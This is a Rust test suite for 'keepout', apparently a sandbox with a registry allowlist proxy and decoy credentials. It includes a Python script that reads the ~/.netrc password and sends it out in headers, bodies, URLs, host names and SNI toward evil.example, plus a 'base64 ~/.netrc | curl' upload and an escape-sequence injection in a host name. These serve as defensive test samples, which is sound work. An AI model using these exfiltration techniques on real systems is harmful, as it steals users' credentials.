//! `keepout run --net NAMES`: registries yes (through keepout's proxy), everything else no, and
//! the host's own services never, whatever the name. Against the real registries these machines
//! reach; each test first shows the host itself reaches what the sandbox is refused.

use std::time::Duration;

use super::harness::*;

/// Fetch each URL with Python's urllib (which honours the proxy variables); print
/// `REACHED url` or `REFUSED url why`.
pub(super) const FETCH_PY: &str = r#"
import sys, urllib.request
for url in sys.argv[1:]:
    try:
        urllib.request.urlopen(url, timeout=20).read(100)
        print("REACHED", url)
    except Exception as e:
        print("REFUSED", url, str(e)[:100])
"#;

/// The host reaches PyPI and crates.io; `--net pypi` reaches PyPI (urllib and the real pip) and
/// is refused crates.io, and says so on one line and in the JSON report.
#[test]
fn registries_yes_everything_else_no() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let fetch = fx.script("fetch.py", FETCH_PY);
        let urls = "https://pypi.org/simple/six/ https://index.crates.io/config.json";
        let out = fx.outside(&format!("{PYTHON} {fetch} {urls}"));
        if !out.stdout.contains("REACHED https://pypi.org") {
            note(&format!(
                "[{r}] this machine does not reach PyPI; skipping:{out}"
            ));
            return;
        }
        assert!(
            out.stdout.contains("REACHED https://index.crates.io"),
            "[{r}] outside reaches crates.io:{out}"
        );

        let report = fx.root.join("report.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--net", "pypi", "--report", &report_s],
            &format!("{PYTHON} {fetch} {urls}"),
        );
        assert!(
            inn.stdout.contains("REACHED https://pypi.org/simple/six/"),
            "[{r}] PyPI through the proxy:{inn}"
        );
        assert!(
            inn.stdout.contains("REFUSED https://index.crates.io"),
            "[{r}] crates.io refused:{inn}"
        );
        assert!(
            inn.stderr
                .contains("keepout: refused 1: connect index.crates.io:443 (not allowed)"),
            "[{r}] one summary line:{inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert_eq!(
            json["refused"][0]["destination"], "index.crates.io:443",
            "[{r}] {json}"
        );

        // The real pip, through the proxy.
        let dl = fx.project.join("dl");
        let inn = fx.inside(
            &["--net", "pypi", "--env", "PIP_CERT=/etc/ssl/certs/ca-certificates.crt"],
            &format!("{PYTHON} -m pip download --no-deps --no-cache-dir --disable-pip-version-check -q -d {} six", q(dl.display().to_string())),
        );
        let got = std::fs::read_dir(&dl).map(|d| d.count()).unwrap_or(0);
        assert!(
            got == 1 && inn.code == Some(0),
            "[{r}] pip download six:{inn}"
        );
        // Nothing refused: no report line.
        assert!(
            !inn.stderr.contains("keepout: refused"),
            "[{r}] no line when nothing is refused:{inn}"
        );
    }
}

/// A server on the host's 127.0.0.1 is out of reach even with `--net '*'`: by address, by
/// `localhost`, through the proxy and around it.
#[test]
fn host_loopback_unreachable_even_with_any_host() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let port = fx.serve("tcp", "");
        let direct = fx.connect_script("tcp", &port);
        let out = fx.outside(&direct);
        assert!(
            out.stdout.contains("CONNECTED hello-from-the-host"),
            "[{r}] outside reaches it:{out}"
        );
        let fetch = fx.script("fetch.py", FETCH_PY);
        let script = format!(
            "{direct}; {PYTHON} {fetch} http://127.0.0.1:{port}/ http://localhost:{port}/ https://localhost/ https://127.0.0.1/"
        );
        let inn = fx.inside(&["--net", "*"], &script);
        assert!(
            inn.stdout.contains("BLOCKED"),
            "[{r}] no direct route:{inn}"
        );
        assert!(
            !inn.stdout.contains("REACHED"),
            "[{r}] nothing through the proxy:{inn}"
        );
        assert!(inn.stdout.matches("REFUSED").count() == 4, "[{r}]{inn}");
        assert!(
            inn.stderr.contains("keepout: refused"),
            "[{r}] reported:{inn}"
        );
    }
}

/// --print-policy shows the allowlist; a typo is an error that lists the presets; --mode
/// landlock cannot enforce an allowlist and says so.
#[test]
fn allowlist_in_the_policy_and_clear_errors() {
    // Never the real home, never the crate's directory as the project.
    let dir = tempfile::tempdir().unwrap();
    let (home, project) = (dir.path().join("home"), dir.path().join("project"));
    std::fs::create_dir_all(&home).unwrap();
    std::fs::create_dir_all(&project).unwrap();
    let keepout = || {
        let mut c = std::process::Command::new(keepout_bin());
        c.env("HOME", &home).current_dir(&project);
        c
    };
    let out = keepout()
        .args([
            "run",
            "--net",
            "pypi,*.example.net",
            "--print-policy",
            "--",
            "true",
        ])
        .output()
        .unwrap();
    let text = String::from_utf8_lossy(&out.stdout);
    assert!(
        text.contains("files.pythonhosted.org") && text.contains("*.example.net"),
        "{text}"
    );
    assert!(
        text.contains("proxied") || text.contains("port = 3128"),
        "{text}"
    );
    let out = keepout()
        .args(["run", "--net", "pyip", "--", "true"])
        .output()
        .unwrap();
    let err = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(125), "{err}");
    assert!(
        err.contains("pypi") && err.contains("crates"),
        "lists the presets: {err}"
    );
    let out = keepout()
        .args(["run", "--net", "pypi", "--mode", "landlock", "--", "true"])
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(125));
    assert!(String::from_utf8_lossy(&out.stderr).contains("--mode namespaces"));
}

/// --decoys: fake credentials in the sandbox's fresh home; every read of them is reported, from
/// outside the sandbox, as a read (never "refused": the read succeeded), each with its kind (a
/// read that ordinary tools make, or not); listing the directory is not a read; a run that reads
/// nothing prints no line.
#[test]
fn decoy_reads_are_reported() {
    for r in runners() {
        let fx = Fixture::new(&r);
        // Outside, the same command reads the runner's real credentials (the attack works).
        let out = fx.outside("cat ~/.netrc >/dev/null && echo READ-REAL");
        assert!(out.stdout.contains("READ-REAL"), "[{r}] outside:{out}");
        let report = fx.root.join("decoys.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--decoys", "--report", &report_s],
            "ls -a ~/.ssh >/dev/null; cat ~/.netrc ~/.ssh/id_ed25519 | grep -c keepout-decoy",
        );
        assert!(
            inn.stdout.trim() == "2",
            "[{r}] the decoys are there, with fake values:{inn}"
        );
        assert!(
            inn.stderr
                .contains("keepout: decoys read: ~/.netrc (ordinary: pip, curl and git")
                && inn
                    .stderr
                    .contains("~/.ssh/id_ed25519 (unexpected: builds and installs do not read it)")
                && inn
                    .stderr
                    .contains("the sandbox had no network: nothing could be sent"),
            "[{r}] both reads reported, each with its kind:{inn}"
        );
        assert!(
            !inn.stderr.contains("refused") && !inn.stderr.contains("~/.aws"),
            "[{r}] a read is not a refusal; only what was read:{inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert_eq!(
            json["decoys_read"],
            serde_json::json!([
                {"path": "~/.netrc", "kind": "ordinary",
                 "ordinary": "pip, curl and git read it on their own, for HTTP logins"},
                {"path": "~/.ssh/id_ed25519", "kind": "unexpected"}
            ]),
            "[{r}] {json}"
        );
        let quiet = fx.inside(&["--decoys"], "ls -a ~ ~/.ssh >/dev/null");
        assert!(
            !quiet.stderr.contains("keepout:"),
            "[{r}] listing is not reading:{quiet}"
        );
    }
}

/// The real pip, installing from PyPI into a venv with decoys planted, reads ~/.netrc (as it
/// always does): reported as an ordinary read, and nothing is called "refused".
#[test]
fn pip_install_with_decoys_cries_no_wolf() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let fetch = fx.script("fetch.py", FETCH_PY);
        let out = fx.outside(&format!("{PYTHON} {fetch} https://pypi.org/simple/six/"));
        if !out.stdout.contains("REACHED") {
            note(&format!(
                "[{r}] this machine does not reach PyPI; skipping:{out}"
            ));
            return;
        }
        let report = fx.root.join("pip.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--decoys", "--net", "pypi", "--report", &report_s],
            &format!(
                "{PYTHON} -m venv /tmp/v && /tmp/v/bin/pip install --no-cache-dir --disable-pip-version-check -q six && /tmp/v/bin/python -c 'import six; print(\"SIX\", six.__version__)'"
            ),
        );
        assert!(
            inn.code == Some(0) && inn.stdout.contains("SIX 1."),
            "[{r}] pip install six in a venv:{inn}"
        );
        assert!(
            !inn.stderr.contains("refused") && !inn.stderr.contains("ALERT"),
            "[{r}] no alarm for what pip does:{inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert_eq!(json["refused"], serde_json::json!([]), "[{r}] {json}");
        assert_eq!(json["decoys_sent"], serde_json::json!([]), "[{r}] {json}");
        for read in json["decoys_read"].as_array().unwrap() {
            assert_eq!(
                read["kind"], "ordinary",
                "[{r}] only ordinary reads: {json}"
            );
        }
        if json["decoys_read"].as_array().unwrap().is_empty() {
            note(&format!("[{r}] pip did not read ~/.netrc this time"));
        } else {
            assert!(
                inn.stderr
                    .contains("keepout: decoys read: ~/.netrc (ordinary")
                    && inn
                        .stderr
                        .contains("none of their values went out through keepout's proxy"),
                "[{r}] said as a read:{inn}"
            );
        }
    }
}

/// Send the password of ~/.netrc away: in an Authorization header (base64), a form body (hex),
/// the URL (as it is), or a piece of it in the host name of an HTTPS request.
const EXFILTRATE_PY: &str = r#"
import base64, os, re, sys, urllib.request
base = sys.argv[1]
pw = re.search(r"password (\S+)", open(os.path.expanduser("~/.netrc")).read()).group(1)
tries = {
    "header": urllib.request.Request(base + "/h", headers={
        "Authorization": "Basic " + base64.b64encode(("u:" + pw).encode()).decode()}),
    "body": urllib.request.Request(base + "/b", data=("token=" + pw.encode().hex()).encode()),
    "url": urllib.request.Request(base + "/u?t=" + pw),
}
if len(sys.argv) > 2:
    tries["host"] = urllib.request.Request("https://" + pw[-12:] + "." + sys.argv[2] + "/")
for how, req in tries.items():
    try:
        urllib.request.urlopen(req, timeout=20).read(100)
        print("SENT", how)
    except Exception as e:
        print("FAILED", how, str(e)[:100])
if len(sys.argv) > 2:
    # A tunnel to an allowed host whose TLS hello names another: the piece in the SNI.
    import socket, ssl, urllib.parse
    proxy = urllib.parse.urlsplit(os.environ["HTTPS_PROXY"])
    try:
        s = socket.create_connection((proxy.hostname, proxy.port), timeout=20)
        s.sendall(b"CONNECT " + sys.argv[2].encode() + b":443 HTTP/1.1\r\n\r\n")
        answer = s.recv(200).split(b"\r\n")[0]
        if b" 200 " not in answer:
            raise OSError(answer.decode())
        t = ssl.create_default_context().wrap_socket(s, server_hostname=pw[-12:] + ".evil.example")
        print("SENT sni")
    except Exception as e:
        print("FAILED sni", str(e)[:100])
"#;

/// A server that writes down what it receives (path, the decoded Authorization, the body).
const RECORDER_PY: &str = r#"
import base64, http.server, os, sys
log, ready = sys.argv[1], sys.argv[2]
class H(http.server.BaseHTTPRequestHandler):
    def handle_one_request(self):
        super().handle_one_request()
    def answer(self):
        auth = self.headers.get("Authorization", "")
        if auth.startswith("Basic "):
            auth = base64.b64decode(auth[6:]).decode()
        n = int(self.headers.get("Content-Length") or 0)
        body = self.rfile.read(n).decode() if n else ""
        if body.startswith("token="):
            body = bytes.fromhex(body[6:]).decode()
        with open(log, "a") as f:
            f.write(f"{self.path} {auth} {body}\n")
        self.send_response(200)
        self.end_headers()
        self.wfile.write(b"ok")
    do_GET = answer
    do_POST = answer
    def log_message(self, *a):
        pass
s = http.server.HTTPServer(("127.0.0.1", 0), H)
with open(ready + ".tmp", "w") as f:
    f.write(str(s.server_port))
os.rename(ready + ".tmp", ready)
s.serve_forever()
"#;

/// A decoy's value on its way out through the proxy is caught, refused and reported as theft.
/// Outside, the same script hands the real ~/.netrc password to a server (in a header, a body,
/// a URL: the server has it three times). Inside with --decoys and --net pypi, each request to
/// pypi.org (allowed) carrying the decoy's value is refused before it is forwarded, and so is an
/// HTTPS request whose host name carries a piece of it (searched before the name is resolved;
/// the sandbox itself has no DNS); the ALERT lines and the JSON say where and how.
#[test]
fn a_decoy_sent_out_is_caught() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let script = fx.script("exfiltrate.py", EXFILTRATE_PY);
        let recorder = fx.script("recorder.py", RECORDER_PY);
        let log = fx.root.join("received.log");
        let ready = fx.root.join("recorder-ready");
        fx.give_to_runner(&fx.root);
        fx.background(&[
            PYTHON,
            &recorder,
            &log.display().to_string(),
            &ready.display().to_string(),
        ]);
        assert!(
            poll(std::time::Duration::from_secs(20), || ready.exists()),
            "[{r}] the recorder did not start"
        );
        let port = read(&ready).unwrap();
        let out = fx.outside(&format!("{PYTHON} {script} http://127.0.0.1:{port}"));
        let real = fx.credential(".netrc");
        let got = read(&log).unwrap_or_default();
        assert!(
            out.stdout.matches("SENT").count() == 3 && got.matches(&real).count() == 3,
            "[{r}] outside, the server receives the password three times:{out}\n{got}"
        );

        let fetch = fx.script("fetch.py", FETCH_PY);
        let reach = fx.outside(&format!("{PYTHON} {fetch} https://pypi.org/simple/six/"));
        let report = fx.root.join("sent.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--decoys", "--net", "pypi", "--report", &report_s],
            &format!(
                "{PYTHON} {script} http://pypi.org pypi.org; \
                 {PYTHON} -c 'import socket; socket.getaddrinfo(\"pypi.org\", 443)' 2>/dev/null && echo HAS-DNS || echo NO-DNS"
            ),
        );
        assert!(
            !inn.stdout.contains("SENT") && inn.stdout.matches("FAILED").count() == 5,
            "[{r}] nothing sent:{inn}"
        );
        assert!(
            inn.stdout.contains("NO-DNS"),
            "[{r}] no DNS in the sandbox but through the proxy:{inn}"
        );
        let reached = reach.stdout.contains("REACHED");
        let mut places = vec![
            ("the Authorization header", "base64-encoded"),
            ("the body", "hex-encoded"),
            ("the URL", "as it is"),
            ("the host name", "a piece of it"),
        ];
        if reached {
            // The tunnel to pypi.org is opened (it is allowed), its TLS hello not forwarded.
            places.push(("the TLS hello (SNI)", "a piece of it"));
        }
        for (place, form) in places.iter().copied() {
            let port = if place == "the host name" || place.contains("TLS") {
                443
            } else {
                80
            };
            let dest = if place == "the host name" {
                ""
            } else {
                "pypi.org"
            };
            let line = format!(
                "keepout: ALERT: the code tried to SEND a decoy credential (~/.netrc) to {dest}"
            );
            assert!(
                inn.stderr.lines().any(|l| l.starts_with(&line)
                    && l.contains(&format!(
                        ":{port} (in {place}, {form}): it is trying to steal credentials"
                    ))),
                "[{r}] {place}:{inn}"
            );
        }
        assert!(
            inn.stderr.contains("the value did not leave"),
            "[{r}] {inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        let sent = json["decoys_sent"].as_array().unwrap();
        assert_eq!(sent.len(), places.len(), "[{r}] {json}");
        assert_eq!(
            sent[0],
            serde_json::json!({"destination": "pypi.org:80", "decoy": "~/.netrc",
                "place": "the Authorization header", "form": "base64"}),
            "[{r}] {json}"
        );
        assert_eq!(
            json["refused"],
            serde_json::json!([]),
            "[{r}] not a policy matter: {json}"
        );
        if reached {
            // The same request without a decoy's value goes through: it is the value that
            // stopped them.
            // (Whatever pypi.org answers on port 80, it is not keepout's 403.)
            let clean = "import base64, urllib.request, urllib.error\n\
                req = urllib.request.Request('http://pypi.org/simple/six/', headers={'Authorization': 'Basic ' + base64.b64encode(b'u:not-a-decoy').decode()})\n\
                try:\n    print('STATUS', urllib.request.urlopen(req, timeout=20).status)\n\
                except urllib.error.HTTPError as e:\n    print('STATUS', e.code, e.read(200))\n";
            let clean = fx.script("clean.py", clean);
            let inn = fx.inside(&["--decoys", "--net", "pypi"], &format!("{PYTHON} {clean}"));
            assert!(
                inn.stdout.contains("STATUS")
                    && !inn.stdout.contains("keepout")
                    && !inn.stderr.contains("ALERT"),
                "[{r}] forwarded:{inn}"
            );
        }
    }
}

/// `base64 ~/.netrc | curl --data-binary @- http://pypi.org/...` with the real base64 and curl:
/// the encoded password, in lines of 76 (base64's default), or of 16 ending in CRLF as MIME
/// writes them (a line break inside every encoded part of the value: it once hid it), is refused
/// before it is forwarded, and reported as sent (ALERT line and JSON).
#[test]
fn a_wrapped_base64_upload_is_caught() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let report = fx.root.join("sent.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--decoys", "--net", "pypi", "--report", &report_s],
            "base64 ~/.netrc | curl -sS --max-time 30 --data-binary @- http://pypi.org/legacy/; echo; \
             base64 -w 16 ~/.netrc | sed 's/$/\\r/' | curl -sS --max-time 30 --data-binary @- http://pypi.org/legacy/; echo",
        );
        assert_eq!(
            inn.stdout
                .matches("keepout: refused: this request carries the value of a decoy credential (~/.netrc, in the body)")
                .count(),
            2,
            "[{r}] both refused:{inn}"
        );
        assert!(
            inn.stderr.lines().any(|l| l.starts_with(
                "keepout: ALERT: the code tried to SEND a decoy credential (~/.netrc) to pypi.org:80 (in the body, base64-encoded)"
            )),
            "[{r}] {inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert_eq!(
            json["decoys_sent"],
            serde_json::json!([{"destination": "pypi.org:80", "decoy": "~/.netrc",
                "place": "the body", "form": "base64"}]),
            "[{r}] {json}"
        );
    }
}

/// Through --net, a name that does not resolve is "not reachable" (and why), not a refusal:
/// on the summary line and in the JSON (`unreachable`, not `refused`).
#[test]
fn a_name_that_does_not_resolve_is_not_a_refusal() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let fetch = fx.script("fetch.py", FETCH_PY);
        let name = "nosuch-keepout-test.invalid";
        let out = fx.outside(&format!("{PYTHON} {fetch} https://{name}/"));
        assert!(
            out.stdout.contains("REFUSED"),
            "[{r}] it does not resolve outside either:{out}"
        );
        let report = fx.root.join("dns.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--net", "*", "--report", &report_s],
            &format!("{PYTHON} {fetch} https://{name}/"),
        );
        assert!(
            inn.stderr.contains(&format!(
                "keepout: not reachable 1: {name}:443 (could not resolve {name})"
            )),
            "[{r}] said as unreachable:{inn}"
        );
        assert!(!inn.stderr.contains("refused"), "[{r}] not a refusal:{inn}");
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert_eq!(json["refused"], serde_json::json!([]), "[{r}] {json}");
        assert_eq!(
            json["unreachable"][0]["destination"],
            format!("{name}:443"),
            "[{r}] {json}"
        );
        assert!(
            json["unreachable"][0]["reason"]
                .as_str()
                .unwrap()
                .starts_with(&format!("could not resolve {name}")),
            "[{r}] {json}"
        );
    }
}

/// Deny-listed system calls the code tried are reported (seccomp user notification answered by
/// keepout with the same EPERM), each once, on the line and in the JSON; the call still fails.
#[test]
fn refused_syscalls_are_reported() {
    const KEYCTL: &str = "import ctypes; l = ctypes.CDLL(None, use_errno=True); \
        r = [l.syscall(250, 0, -3, 0) for _ in range(3)]; print('keyctl', r[0], ctypes.get_errno())";
    for r in runners() {
        let fx = Fixture::new(&r);
        // Outside, keyctl reaches the kernel: the session keyring's id (>= 0).
        let out = fx.outside(&format!("{PYTHON} -c {}", q(KEYCTL)));
        assert!(
            out.stdout.starts_with("keyctl ") && !out.stdout.starts_with("keyctl -1"),
            "[{r}] outside keyctl works:{out}"
        );
        let report = fx.root.join("syscalls.json");
        let report_s = report.display().to_string();
        fx.give_to_runner(&fx.root);
        let inn = fx.inside(
            &["--report", &report_s],
            &format!("{PYTHON} -c {}; unshare -U true", q(KEYCTL)),
        );
        assert!(
            inn.stdout.contains("keyctl -1 1"),
            "[{r}] inside keyctl still fails with EPERM:{inn}"
        );
        assert!(
            inn.stderr.contains("keepout: refused 2: keyctl · unshare"),
            "[{r}] each call reported once, in order:{inn}"
        );
        let json: serde_json::Value =
            serde_json::from_str(&std::fs::read_to_string(&report).unwrap()).unwrap();
        assert_eq!(
            json["syscalls"],
            serde_json::json!(["keyctl", "unshare"]),
            "[{r}] {json}"
        );
        let quiet = fx.inside(&[], &format!("{PYTHON} -c 'print(1)'; git --version"));
        assert!(
            !quiet.stderr.contains("keepout: refused"),
            "[{r}] ordinary work reports nothing:{quiet}"
        );
    }
}

/// The real cargo (`cargo fetch` of a small crate) with `--net crates`, and the real npm
/// (`npm view`) with `--net npm`; each refused with the other's preset, and the report names
/// the registry. (cargo needs the toolchain under /root: the root runner only.)
#[test]
fn cargo_and_npm_through_the_proxy() {
    let cargo = std::path::Path::new("/root/.cargo/bin/cargo");
    for r in runners() {
        let fx = Fixture::new(&r);
        let fetch = fx.script("fetch.py", FETCH_PY);
        let out = fx.outside(&format!(
            "{PYTHON} {fetch} https://index.crates.io/config.json https://registry.npmjs.org/left-pad"
        ));
        if out.stdout.matches("REACHED").count() != 2 {
            note(&format!(
                "[{r}] this machine does not reach crates.io and npm; skipping:{out}"
            ));
            return;
        }
        if have("npm") {
            let npm = "npm view left-pad version --cache /tmp/npm-cache --no-update-notifier";
            let ca = "NODE_EXTRA_CA_CERTS=/etc/ssl/certs/ca-certificates.crt";
            let inn = fx.inside(&["--net", "npm", "--env", ca], npm);
            assert!(
                inn.code == Some(0) && inn.stdout.trim().starts_with('1'),
                "[{r}] npm view through the proxy:{inn}"
            );
            let inn = fx.inside(&["--net", "pypi", "--env", ca], npm);
            assert!(
                inn.code != Some(0),
                "[{r}] npm refused with --net pypi:{inn}"
            );
            assert!(
                inn.stderr
                    .contains("connect registry.npmjs.org:443 (not allowed)"),
                "[{r}]{inn}"
            );
        }
        if r.is_root() && cargo.exists() {
            let project = fx.project.join("cargo-project");
            std::fs::create_dir_all(project.join("src")).unwrap();
            std::fs::write(
                project.join("Cargo.toml"),
                "[package]\nname = \"p\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[dependencies]\nitoa = \"1\"\n",
            )
            .unwrap();
            std::fs::write(project.join("src/lib.rs"), "").unwrap();
            let script = format!(
                "cd {} && /root/.cargo/bin/cargo fetch",
                q(project.display().to_string())
            );
            let args = [
                "--ro",
                "/root/.cargo",
                "--ro",
                "/root/.rustup",
                "--env",
                "RUSTUP_HOME=/root/.rustup",
                "--env",
                "CARGO_HOME=/tmp/cargo-home",
                "--env",
                "PATH=/root/.cargo/bin:/usr/bin:/bin",
            ];
            let mut with = vec!["--net", "crates"];
            with.extend(args);
            let inn = fx.inside(&with, &script);
            assert!(
                inn.code == Some(0) && inn.stderr.contains("Downloaded itoa"),
                "[{r}] cargo fetch through the proxy:{inn}"
            );
            let mut without = vec!["--net", "pypi"];
            without.extend(args);
            let inn = fx.inside(&without, &script);
            assert!(
                inn.code != Some(0)
                    && inn
                        .stderr
                        .contains("connect index.crates.io:443 (not allowed)"),
                "[{r}] cargo refused with --net pypi:{inn}"
            );
        }
    }
}

/// A destination is the sandbox's text: printed with its control characters escaped, so a
/// request for a "host" made of escape sequences cannot rewrite keepout's lines (A17).
#[test]
fn destinations_are_shown_escaped() {
    const RAW_CONNECT: &str = r#"
import socket
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"CONNECT \x1b[2K\x1b]0;owned\x07evil.example:443 HTTP/1.1\r\n\r\n")
print("ANSWER", s.recv(100).split(b"\r\n")[0].decode())
"#;
    for r in runners() {
        let fx = Fixture::new(&r);
        let script = fx.script("raw_connect.py", RAW_CONNECT);
        let inn = fx.inside(&["--net", "pypi"], &format!("{PYTHON} {script}"));
        assert!(inn.stdout.contains("ANSWER HTTP/1.1 403"), "[{r}]{inn}");
        assert!(
            inn.stderr
                .contains("connect \\e[2K\\e]0;owned\\x07evil.example:443 (not allowed)")
                && !inn.stderr.contains('\x1b'),
            "[{r}] escaped:{inn}"
        );
    }
}

/// Open `argv[1]` connections to the proxy (raising this process's own soft fd limit first),
/// say how many opened, and hold them `argv[2]` seconds.
const MANY_CONNECTIONS_PY: &str = r#"
import socket, sys, time, resource
resource.setrlimit(resource.RLIMIT_NOFILE, (4096, 4096))
socks = []
for i in range(int(sys.argv[1])):
    try:
        socks.append(socket.create_connection(("127.0.0.1", 3128), timeout=2))
    except OSError:
        pass
print("OPEN", len(socks), flush=True)
time.sleep(float(sys.argv[2]))
"#;

/// CPU time (user + system, in clock ticks) of all the threads of `pid`.
fn cpu_ticks(pid: u32) -> u64 {
    let Ok(tasks) = std::fs::read_dir(format!("/proc/{pid}/task")) else {
        return 0;
    };
    tasks
        .flatten()
        .filter_map(|t| std::fs::read_to_string(t.path().join("stat")).ok())
        .map(|stat| {
            // Fields after the command's ")" (which may hold spaces): utime is the 14th field
            // of the line, the 12th after it.
            let rest = stat.rsplit_once(')').map(|(_, r)| r).unwrap_or("");
            let f: Vec<&str> = rest.split_whitespace().collect();
            let n = |i: usize| f.get(i).and_then(|v| v.parse::<u64>().ok()).unwrap_or(0);
            n(11) + n(12)
        })
        .sum()
}

/// Issue 14: keepout out of file descriptors (a soft limit of 48, a sandbox that opens 100
/// connections to the proxy): the proxy waits before it accepts again instead of retrying at
/// once (it spun a core, about 300 ticks in 3 s), and says so once, on the summary line and in
/// the report.
#[test]
fn out_of_file_descriptors_the_proxy_does_not_spin() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let script = fx.script("many.py", MANY_CONNECTIONS_PY);
        let report = fx.project.join("report.json");
        let report_arg = report.display().to_string();
        let cmd = fx.command(&[
            "/usr/bin/prlimit",
            "--nofile=48:4096",
            keepout_bin(),
            "run",
            "--net",
            "pypi",
            "--report",
            &report_arg,
            "--",
            PYTHON,
            &script,
            "100",
            "8",
        ]);
        let mut running = Running::spawn(cmd, format!("[{r}] prlimit --nofile=48 keepout run"));
        let pid = running.pid();
        // The proxy is at its limit once keepout holds about 48 descriptors.
        let full = poll(Duration::from_secs(20), || {
            std::fs::read_dir(format!("/proc/{pid}/fd")).map_or(0, |d| d.count()) >= 44
        });
        assert!(full, "[{r}] keepout never reached its fd limit");
        std::thread::sleep(Duration::from_millis(500));
        let (before, start) = (cpu_ticks(pid), std::time::Instant::now());
        std::thread::sleep(Duration::from_secs(3));
        let ticks = cpu_ticks(pid) - before;
        let secs = start.elapsed().as_secs_f64();
        // A measurement, not a skipped check: printed, not a note.
        eprintln!("[{r}] keepout at its fd limit: {ticks} ticks of CPU in {secs:.1} s");
        assert!(running.is_running(), "[{r}] keepout ended early");
        let out = running.wait();
        assert!(out.stdout.contains("OPEN "), "[{r}]{out}");
        // 100 ticks a second: a spin is ~300; a wait of 100 ms between tries is ~0.
        assert!(
            ticks < 60,
            "[{r}] {ticks} ticks in {secs:.1} s: the proxy spins{out}"
        );
        assert_eq!(
            out.stderr.matches("could not accept connections").count(),
            1,
            "[{r}] said once:{out}"
        );
        let json = std::fs::read_to_string(&report).unwrap();
        assert!(
            json.contains("could not accept connections"),
            "[{r}] {json}"
        );
    }
}

/// Send half a request head and wait: cut by the head limit, shortened for the test.
const HALF_HEAD_PY: &str = r#"
import socket, time
s = socket.create_connection(("127.0.0.1", 3128), timeout=20)
s.sendall(b"CONNECT pypi.org:443 HTTP/1.1\r\n")
start = time.time()
print("ANSWER", s.recv(100).split(b"\r\n")[0].decode(), round(time.time() - start))
"#;

/// Issue 14: a connection cut for its time (here a head that never ends, with the head limit
/// at 1 s through the test setting) is on the summary line and in the report.
#[test]
fn a_cut_connection_is_reported() {
    for r in runners() {
        let fx = Fixture::new(&r);
        let script = fx.script("half_head.py", HALF_HEAD_PY);
        let report = fx.project.join("report.json");
        let report_arg = report.display().to_string();
        let limits = format!("{}=1000,1000", keepout_net::TEST_LIMITS_VAR);
        let cmd = fx.command(&[
            "/usr/bin/env",
            &limits,
            keepout_bin(),
            "run",
            "--net",
            "pypi",
            "--report",
            &report_arg,
            "--",
            PYTHON,
            &script,
        ]);
        let out = run(cmd, format!("[{r}] keepout run (head limit 1 s)"));
        assert!(out.stdout.contains("ANSWER HTTP/1.1 408"), "[{r}]{out}");
        assert!(
            out.stderr
                .contains("connect pypi.org:443 (cut: the request did not arrive in 1 s)"),
            "[{r}]{out}"
        );
        let json = std::fs::read_to_string(&report).unwrap();
        assert!(
            json.contains("cut: the request did not arrive"),
            "[{r}] {json}"
        );
    }
}
